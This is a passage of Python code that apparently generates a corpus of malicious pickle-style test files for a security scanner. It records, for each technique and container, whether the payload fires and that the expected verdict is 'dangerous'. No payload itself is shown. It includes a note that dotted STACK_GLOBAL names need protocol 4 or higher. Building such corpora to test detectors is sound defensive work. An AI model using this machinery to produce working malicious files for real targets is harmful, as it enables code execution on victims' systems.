    marker = (marker_dir / f"{id}.marker").resolve()
    ctx = Ctx(str(marker))
    Path(ctx.script).write_text(ctx.py + "\n")  # only runpy/import techniques read it
    placed = CONTAINERS[container_name](tech, ctx, out, id)
    fires = tech.fires if placed.fires is None else (placed.fires and tech.fires)
    reason = placed.reason if placed.fires is False else tech.reason
    if fires and tech.dotted and (placed.host_protocol or 4) < 4:
        fires = False
        reason = "a dotted STACK_GLOBAL name resolves only in a stream whose PROTO is >= 4"
    return CorpusFile(
        path=out / placed.fname,
        id=id,
        description=f"{tech.description} [{container_name}]",
        container=placed.container,
        kind="malicious",
        notes=placed.notes,
        expect_weights_only=placed.expect_weights_only,
        expected_verdict="dangerous",
        technique=tech_name,
        trigger=placed.trigger,
        fires=fires,
        fires_reason="" if fires else reason,
        marker=marker,
        deterministic=placed.deterministic,
        tags=(container_name, *(("slow-payload",) if tech.slow else ())),
    )


def generate_malicious(out: Path, marker_dir: Path) -> list[CorpusFile]:
    """Write every (technique, container) file into `out`; markers go to `marker_dir`."""
    out.mkdir(parents=True, exist_ok=True)
    marker_dir.mkdir(parents=True, exist_ok=True)
    return [make(t, c, out, marker_dir) for t, c in plan()]
